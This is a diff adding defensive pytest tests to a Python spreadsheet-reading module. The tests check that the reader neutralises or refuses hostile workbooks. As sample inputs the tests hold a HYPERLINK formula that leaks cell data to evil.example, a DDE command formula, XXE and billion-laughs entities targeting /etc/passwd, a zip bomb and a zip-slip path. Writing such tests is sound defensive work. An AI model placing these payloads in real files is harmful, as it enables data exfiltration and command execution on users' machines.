@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from collections import Counter
 from datetime import date, datetime
 from decimal import Decimal
@@ -314,3 +315,71 @@ def test_whatever_stands_in_a_cell_is_a_value_or_told(cells):
         assert number.value >= 0
     for post in read.sheet.posts:
         assert Month.of(post.post.posted) == NOVEMBER
+
+
+def repacked(change) -> bytes:
+    """The empty sheet with its parts changed by hand."""
+    packed = BytesIO()
+    with zipfile.ZipFile(BytesIO(EMPTY)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            new.writestr(name, change(name, old.read(name)))
+    return packed.getvalue()
+
+
+def test_links_to_outside_and_commands_in_cells_are_only_text(filled):
+    filled.put(Part.POSTS, 1, day="2026-11-02", title='=HYPERLINK("http://evil.example/?"&A1,"here")')
+    filled.put(Part.POSTS, 2, day="2026-11-03", title="=[1]Sheet1!$A$1", link="file:///etc/passwd")
+    filled.put(Part.CLAIMS, 1, kpi="お問い合わせの合計", note="=cmd|' /C calc'!A0")
+    found = sheet(filled)
+    assert found.posts[0].post.title.startswith("=HYPERLINK")
+    assert found.posts[1].post.link == ""
+    assert found.claims[0].note.startswith("=cmd")
+    assert {code for code, _ in told(filled)} == {Code.SHEET_NO_LINK}
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+    ],
+)
+def test_entities_are_refused_or_harmless(inside):
+    def change(name: str, part: bytes) -> bytes:
+        if name != "xl/worksheets/sheet2.xml":
+            return part
+        text = b"&b;" if b"&b" in inside or b"ENTITY b" in inside else b"&e;"
+        head, tag, rest = part.partition(b"<worksheet")
+        return head + inside + tag + rest.replace(b"<is><t>No", b"<is><t>" + text + b"No", 1)
+
+    read = result(repacked(change))
+    if isinstance(read, Unread):
+        assert sentence(read.problem)
+    else:
+        assert read.sheet == FilledSheet("sample", NOVEMBER, 1)
+
+
+def test_a_cell_in_the_far_corner_and_a_bomb_are_refused():
+    def far(name: str, part: bytes) -> bytes:
+        cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+        return part.replace(b"</sheetData>", cell) if name == "xl/worksheets/sheet2.xml" else part
+
+    def swollen(name: str, part: bytes) -> bytes:
+        return part + b" " * 60_000_000 if name == "xl/worksheets/sheet2.xml" else part
+
+    for change, code in ((far, Code.TABLE_TOO_LARGE), (swollen, Code.FILE_UNPACKS_TOO_LARGE)):
+        read = result(repacked(change))
+        assert isinstance(read, Unread)
+        assert read.problem.code is code
+
+
+def test_a_sheet_cut_off_is_refused_and_one_part_more_is_no_harm():
+    assert isinstance(result(EMPTY[: len(EMPTY) // 2]), Unread)
+    more = BytesIO(EMPTY)
+    with zipfile.ZipFile(more, "a") as book:
+        book.writestr("xl/externalLinks/externalLink1.xml", "<x/>")
+        book.writestr("../../evil.txt", "x")
+        book.writestr("xl/vbaProject.bin", b"\0" * 20)
+    read = result(more.getvalue())
+    assert isinstance(read, Reading)
+    assert read.sheet == FilledSheet("sample", NOVEMBER, 1)
